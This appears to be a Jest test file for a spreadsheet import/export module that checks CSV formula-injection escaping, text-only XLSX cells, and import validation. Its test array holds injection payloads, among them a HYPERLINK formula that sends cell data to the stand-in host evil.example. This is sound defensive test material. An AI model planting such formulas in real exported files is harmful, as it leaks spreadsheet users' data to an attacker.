import ExcelJS from 'exceljs';
import type { AppException } from '@dondoc/common';
import { readTable, writeTable } from './tabular';

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];

/** The CSV body's lines, without the BOM. */
async function csvLines(rows: Record<string, string | number | boolean | null>[], columns = ['name']): Promise<string[]> {
  return (await writeTable('csv', columns, rows)).toString('utf8').replace(/^\uFEFF/, '').trimEnd().split('\n');
}

describe(writeTable.name, () => {
  it.each(FORMULAS)('writes text a spreadsheet would run as a formula with a leading apostrophe in CSV (%j)', async (text) => {
    const [, line] = await csvLines([{ name: text }]);
    const cell = line.startsWith('"') ? line.slice(1, -1).replace(/""/g, '"') : line;
    expect(cell).toBe(`'${text}`);
  });

  it('leaves ordinary text, numbers (negative ones too) and empty cells as they are', async () => {
    const lines = await csvLines([{ name: 'Xã Minh Châu', delta: -5, ratio: -0.25, note: null }], ['name', 'delta', 'ratio', 'note']);
    expect(lines).toEqual(['name,delta,ratio,note', 'Xã Minh Châu,-5,-0.25,']);
  });

  it('keeps the apostrophe of text that already starts with one, so that reading it back is exact', async () => {
    const [, line] = await csvLines([{ name: "'=1+1" }]);
    expect(line).toBe("''=1+1");
    const [, plain] = await csvLines([{ name: "'Ngọc" }]);
    expect(plain).toBe("'Ngọc");
  });

  it('writes XLSX text as text, never as a formula, with no apostrophe', async () => {
    const buffer = await writeTable('xlsx', ['name', 'delta'], FORMULAS.map((name) => ({ name, delta: -5 })));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    FORMULAS.forEach((text, index) => {
      const cell = sheet.getRow(index + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(text.replace(/\r/g, '\n')); // XML reads a bare CR as LF
      expect(sheet.getRow(index + 2).getCell(2).value).toBe(-5);
    });
  });
});

describe(readTable.name, () => {
  const columns = { required: ['name'], optional: ['phone'] };

  it('reads an exported CSV back to the values that were written', async () => {
    const values = ['=HYPERLINK("x")', '+84 912 345 678', "'=1+1", "'Ngọc", 'Xã Minh Châu', '-2'];
    const csv = await writeTable('csv', ['name', 'phone'], values.map((name) => ({ name, phone: '+84 912 345 678' })));
    const rows = await readTable({ originalname: 'export.csv', mimetype: 'text/csv', buffer: csv }, columns);
    expect(rows.map((r) => r.values)).toEqual(values.map((name) => ({ name, phone: '+84 912 345 678' })));
  });

  it('writes booleans as true/false, so an inactive row exported to CSV imports back inactive', async () => {
    expect(await csvLines([{ code: 'A', active: false }, { code: 'B', active: true }], ['code', 'active'])).toEqual(['code,active', 'A,false', 'B,true']);
  });

  it('refuses a cell with a control character or a lone surrogate by row and column, and composes the rest (NFC)', async () => {
    const file = (text: string) => ({ originalname: 'x.csv', mimetype: 'text/csv', buffer: Buffer.from(text, 'utf8') });
    const refused = await readTable(file('code,name_vi\nA,x\u0000y\nB,ok\nC,z\u0007\n'), { required: ['code', 'name_vi'], optional: [] }).catch((e: AppException) => e.problems);
    expect(refused).toEqual([
      { row: 2, field: 'name_vi', rule: 'noControlCharacters' },
      { row: 4, field: 'name_vi', rule: 'noControlCharacters' },
    ]);
    const rows = await readTable(file('code,name_vi\nA,Xa\u0303 Minh Cha\u0302u\n'), { required: ['code', 'name_vi'], optional: [] });
    expect(rows[0].values.name_vi).toBe('Xã Minh Châu');
  });

  it('refuses an XLSX date cell beyond any calendar by row and column (400, not a crash)', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('data');
    sheet.addRow(['name', 'phone']);
    sheet.addRow(['Xã Minh Châu', 'x']);
    sheet.getCell('B2').value = 1e20;
    sheet.getCell('B2').numFmt = 'yyyy-mm-dd';
    const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
    const refused = await readTable({ originalname: 'x.xlsx', mimetype: 'application/octet-stream', buffer }, columns).catch((e: AppException) => e);
    expect((refused as AppException).getStatus()).toBe(400);
    expect((refused as AppException).problems).toEqual([{ row: 2, field: 'phone', rule: 'isDate', message: { vi: 'phone là ngày tháng không hợp lệ', en: 'phone is not a valid date' } }]);
  });
});
